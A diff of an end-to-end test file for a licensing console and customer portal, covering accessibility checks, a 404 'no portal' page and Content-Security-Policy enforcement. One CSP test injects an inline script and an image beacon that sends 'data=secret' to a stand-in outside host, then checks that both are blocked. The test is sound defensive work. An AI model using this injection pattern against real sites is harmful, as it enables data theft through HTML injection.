@@ -1,10 +1,9 @@
 import { readFileSync } from 'node:fs';
-import { createRequire } from 'node:module';
 import path from 'node:path';
-import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { KeyforgeClient, MemoryStore } from '../sdk/src/index.js';
-import { outboxLink, SCREENSHOTS, startConsoleE2e, type ConsoleE2e } from './support/console-e2e.js';
+import { seriousViolations } from './support/axe.js';
+import { outboxLink, recordCspViolations, SCREENSHOTS, signInAsAdmin, startConsoleE2e, type ConsoleE2e } from './support/console-e2e.js';
 import { describeWith, needChromium } from './support/optional.js';
 import { postJson } from './support/processes.js';
 
@@ -12,25 +11,16 @@ import { postJson } from './support/processes.js';
  * The customer portal in Chromium at 1280 and 375 px, on the real server and PostgreSQL: the vendor turns it on
  * (handle, accent colour, a product's device-free limit), a customer signs in from the link in the development
  * outbox, sees their license and devices, downloads a device's license file, activates a machine without internet (the SDK's
- * request pasted in, the license file taken back and validated offline), frees a device, and signs out. axe-core checks every portal page (0 serious
- * or critical violations). Screenshots go to test-output/screenshots/portal-*.png.
+ * request pasted in, the license file taken back and validated offline), frees a device, and signs out. axe-core checks every portal page
+ * and every menu and dialog opened on it (0 serious or critical violations). An unknown handle shows a page that says
+ * there is no portal there. The console's and the portal's Content-Security-Policy: present, an injected inline script
+ * refused, and every page of both loaded with no violation. Screenshots go to test-output/screenshots/portal-*.png.
  */
 const chromiumNeed = needChromium();
-const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
 const CUSTOMER = 'pat@customer.test';
 
 let e2e: ConsoleE2e;
 let licenseKey: string;
-
-/** Serious and critical axe-core violations of the page as it is now: "rule: targets". */
-async function seriousViolations(page: Page): Promise<string[]> {
-  await page.addScriptTag({ path: AXE });
-  const result = await page.evaluate(async () => {
-    const axe = (window as unknown as { axe: { run(context: Document, options: object): Promise<{ violations: { id: string; impact: string | null; nodes: { target: unknown[] }[] }[] }> } }).axe;
-    return axe.run(document, { resultTypes: ['violations'] });
-  });
-  return result.violations.filter((violation) => violation.impact === 'serious' || violation.impact === 'critical').map((violation) => `${violation.id}: ${violation.nodes.map((node) => JSON.stringify(node.target)).join(', ')}`);
-}
 
 /** The application on a machine that never reaches the server: the SDK with the server's published keys. */
 async function airGappedMachine() {
@@ -135,9 +125,13 @@ describeWith(chromiumNeed)('customer portal in Chromium', () => {
       await license.getByText(`You can free ${index === 0 ? '2 more devices' : '1 more device'} in the next 30 days`).waitFor();
       expect(await license.getByText(freed[index]).count()).toBe(0);
 
-      // Sign out: back to the sign-in page, and the session is gone.
+      // Sign out: back to the sign-in page, and the session is gone. axe checked the account menu before the click.
       await page.getByRole('button', { name: `Account: ${CUSTOMER}` }).click();
+      await page.getByRole('menuitem', { name: 'Sign out', exact: true }).waitFor();
+      await page.screenshot({ path: path.join(SCREENSHOTS, `portal-account-menu-${width}.png`) });
       await page.getByRole('menuitem', { name: 'Sign out', exact: true }).click();
+      expect(e2e.overlays.checked, `account menu at ${width}px`).toContain(`menu “Account: ${CUSTOMER}”`);
+      expect(e2e.overlays.violations, `menus and dialogs at ${width}px`).toEqual([]);
       await page.getByRole('heading', { name: 'Your Acme Corp licenses' }).waitFor();
       await page.reload();
       await page.getByRole('heading', { name: 'Your Acme Corp licenses' }).waitFor();
@@ -153,6 +147,127 @@ describeWith(chromiumNeed)('customer portal in Chromium', () => {
     await page.goto('/portal/acme/sign-in#token=kfp_not-a-real-token');
     await page.getByText('That link did not work').waitFor();
     expect(await seriousViolations(page)).toEqual([]);
+    await page.context().close();
+  });
+
+  it('an unknown handle and a portal switched off say that there is no portal at this address (404, 1280 and 375 px)', async () => {
+    const setHandle = (portalHandle: string) =>
+      e2e.gql('mutation($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { company { portalHandle } } }', { input: { portalHandle } });
+    for (const width of [1280, 375]) {
+      const page = await e2e.newPage(width);
+      const response = await page.goto('/portal/no-such-vendor');
+      expect(response?.status()).toBe(404);
+      await page.getByRole('heading', { name: 'There is no portal at this address' }).waitFor();
+      await page.getByText('Check the link you followed').waitFor();
+      expect(await page.getByText(/try again|cannot be reached/i).count()).toBe(0);
+      expect(await page.title()).toBe('No portal at this address');
+      expect(await seriousViolations(page), `no-portal page at ${width}px`).toEqual([]);
+      await page.screenshot({ path: path.join(SCREENSHOTS, `portal-no-portal-${width}.png`), fullPage: true });
+      await page.context().close();
+    }
+    // The vendor switches its portal off: its address answers the same page, and again once it is back on.
+    await setHandle('');
+    try {
+      const page = await e2e.newPage(1280);
+      expect((await page.goto('/portal/acme'))?.status()).toBe(404);
+      await page.getByRole('heading', { name: 'There is no portal at this address' }).waitFor();
+      await page.context().close();
+    } finally {
+      await setHandle('acme');
+    }
+  });
+});
+
+describeWith(chromiumNeed)('Content-Security-Policy of the console and the portal', () => {
+  it('is sent with every page and asset, and refuses an injected inline script and images from elsewhere', async () => {
+    const assetPath = /src="(\/assets\/[^"]+\.js)"/.exec(await (await fetch(`${e2e.server.url}/login`)).text())![1];
+    for (const address of ['/', '/login', '/licenses/some-id', assetPath, '/portal/acme', '/portal/acme/sign-in', '/portal/no-such-vendor']) {
+      const policy = (await fetch(`${e2e.server.url}${address}`)).headers.get('content-security-policy') ?? '';
+      const directives = Object.fromEntries(policy.split('; ').map((directive) => [directive.split(' ')[0], directive.split(' ').slice(1).join(' ')]));
+      expect(directives, address).toMatchObject({
+        'default-src': "'none'",
+        'script-src': "'self'",
+        'img-src': "'self' data:",
+        'connect-src': "'self'",
+        'frame-ancestors': "'none'",
+        'form-action': "'self'",
+        'base-uri': "'none'",
+        'object-src': "'none'",
+      });
+    }
+    // The API is not a page: its answers carry no page policy.
+    expect((await fetch(`${e2e.server.url}/healthz`)).headers.get('content-security-policy')).toBeNull();
+
+    for (const address of ['/login', '/portal/acme']) {
+      const context = await e2e.browser.newContext({ baseURL: e2e.server.url });
+      const page = await context.newPage();
+      const violations: string[] = [];
+      await recordCspViolations(page, violations);
+      await page.goto(address);
+      await page.getByRole('heading').first().waitFor();
+      expect(violations, `${address} as served`).toEqual([]);
+      // What an HTML injection would add: an inline script and an image that carries data elsewhere.
+      await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.injected = true';
+        document.body.append(script);
+        const image = document.createElement('img');
+        image.src = 'https://elsewhere.test/pixel.png?data=secret';
+        document.body.append(image);
+      });
+      await expect.poll(() => violations.filter((violation) => violation.startsWith('CSP: securitypolicyviolation')).length).toBe(2);
+      expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+      expect(violations.join('\n')).toMatch(/script-src-elem blocked inline/);
+      expect(violations.join('\n')).toMatch(/img-src blocked https:\/\/elsewhere\.test\/pixel\.png/);
+      await context.close();
+    }
+  });
+
+  it('admits the vendor’s logo from its own origin on the portal, and nothing else', async () => {
+    await e2e.gql('mutation($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { company { portalLogoUrl } } }', {
+      input: { portalLogoUrl: 'https://cdn.acme.test/brand/logo.svg' },
+    });
+    try {
+      const policy = (await fetch(`${e2e.server.url}/portal/acme`)).headers.get('content-security-policy') ?? '';
+      expect(policy).toContain("img-src 'self' data: https://cdn.acme.test");
+      // The console's policy does not follow a company's settings.
+      expect((await fetch(`${e2e.server.url}/login`)).headers.get('content-security-policy')).toMatch(/img-src 'self' data:$/);
+
+      const page = await e2e.newPage(1280);
+      // The logo's host, served here (the machine reaches no other).
+      await page.route('https://cdn.acme.test/brand/logo.svg', (route) =>
+        route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="32"><rect width="64" height="32" fill="#0b7285"/></svg>' }),
+      );
+      await page.goto('/portal/acme');
+      await page.getByRole('heading', { name: 'Your Acme Corp licenses' }).waitFor();
+      await expect.poll(() => page.locator('header img').evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBe(64);
+      await page.context().close();
+    } finally {
+      await e2e.gql('mutation($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { company { portalLogoUrl } } }', { input: { portalLogoUrl: '' } });
+    }
+  });
+
+  it('every page of the console loads with no violation (the portal’s pages are loaded above, under the same watch)', async () => {
+    const page = await e2e.newPage(1280);
+    const visited: string[] = [];
+    const load = async (address: string) => {
+      await page.goto(address);
+      await page.getByRole('heading').or(page.getByText('Page not found')).first().waitFor();
+      await page.waitForLoadState('networkidle');
+      visited.push(new URL(page.url()).pathname);
+    };
+    for (const address of ['/login', '/forgot-password', '/reset-password', '/accept-invite', '/setup']) await load(address);
+    await signInAsAdmin(page);
+    // Every page the navigation links to, as the console lists them, and the pages reached from them.
+    const links = await page.getByRole('navigation').getByRole('link').evaluateAll((anchors) => anchors.map((anchor) => new URL((anchor as HTMLAnchorElement).href).pathname));
+    const { licenses } = await e2e.gql('{ licenses(first: 1) { nodes { id } } }', {});
+    for (const address of [...new Set(links), `/licenses/${licenses.nodes[0].id}`, '/settings/profile', '/no-such-page']) await load(address);
+    expect(visited).toEqual(expect.arrayContaining(['/', '/licenses', '/products', '/activity', '/emails', '/settings/company', '/settings/payments']));
+    // An email as sent, in its sandboxed frame.
+    await load('/emails');
+    await page.getByRole('button', { name: 'Preview' }).first().click();
+    await page.frameLocator('iframe[title="Email HTML"]').locator('body').waitFor();
+    expect(e2e.errors.filter((error) => error.startsWith('CSP'))).toEqual([]);
     await page.context().close();
   });
 });
